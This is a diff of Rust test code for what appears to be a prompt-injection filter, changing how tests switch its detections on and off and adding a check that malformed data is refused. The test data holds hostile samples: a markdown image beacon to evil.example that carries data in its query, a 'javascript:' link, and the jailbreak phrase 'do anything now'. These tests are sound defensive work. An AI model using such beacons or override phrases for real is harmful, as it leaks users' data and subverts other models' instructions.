@@ -19,7 +19,8 @@ const BEACON: &str = "![x](https://evil.example/?data=x)";
 const LINKS: &str = "https://a.example https://b.example https://c.example";
 
 /// Changes of the data, a text, and what is decided then: the effect, the reason, the text that goes ahead.
-type Switch = (&'static str, fn(&mut Value), String, [Option<&'static str>; 3]);
+type Switch = (&'static str, Change, String, [Option<&'static str>; 3]);
+type Change = fn(&mut Value);
 
 fn switches() -> Vec<Switch> {
     let filtered = Some("[filtered-prompt-injection]");
@@ -32,7 +33,10 @@ fn switches() -> Vec<Switch> {
         ),
         (
             "an-override-is-off",
-            |data| remove(data, "in_force", "instruction_override"),
+            |data| {
+                remove(data, "in_force", "instruction_override");
+                remove(data, "deny", "instruction_override");
+            },
             OVERRIDE.to_owned(),
             [Some("allow"), None, None],
         ),
@@ -61,17 +65,17 @@ fn switches() -> Vec<Switch> {
             [Some("redact"), Some("image_beacon"), Some("do anything now [filtered-prompt-injection]")],
         ),
         (
-            "what-is-off-does-not-deny",
-            |data| {
-                remove(data, "in_force", "script_url");
-                data["deny"].as_array_mut().unwrap().push(json!("script_url"));
-            },
+            "a-script-is-off",
+            |data| remove(data, "in_force", "script_url"),
             "[x](javascript:x)".to_owned(),
             [Some("allow"), None, None],
         ),
         (
             "nothing-is-in-force",
-            |data| data["in_force"] = json!([]),
+            |data| {
+                data["in_force"] = json!([]);
+                data["deny"] = json!([]);
+            },
             format!("{OVERRIDE} {BEACON}"),
             [Some("allow"), None, None],
         ),
@@ -131,12 +135,18 @@ pub(crate) fn trials(root: &Path) -> Vec<Trial> {
             }));
         }
     }
-    {
+    let refused: [(&str, Change); 2] = [
+        ("a-finding-that-there-is-not", |data| {
+            data["in_force"].as_array_mut().unwrap().push(json!("no_such_finding"));
+        }),
+        ("a-finding-that-denies-and-is-off", |data| remove(data, "in_force", "instruction_override")),
+    ];
+    for (name, change) in refused {
         let pack = pack.clone();
-        trials.push(Trial::test("prompt-injection/data/a-finding-that-there-is-not", move || {
+        trials.push(Trial::test(format!("prompt-injection/data/{name}"), move || {
             let (pack, _) = pack.read.clone()?;
             let mut data = (*pack.data).clone();
-            data["in_force"].as_array_mut().unwrap().push(json!("no_such_finding"));
+            change(&mut data);
             let refused = pack.read_data("data.json", data.to_string().as_bytes());
             if refused.is_err() { Ok(()) } else { Err("the data was taken".into()) }
         }));
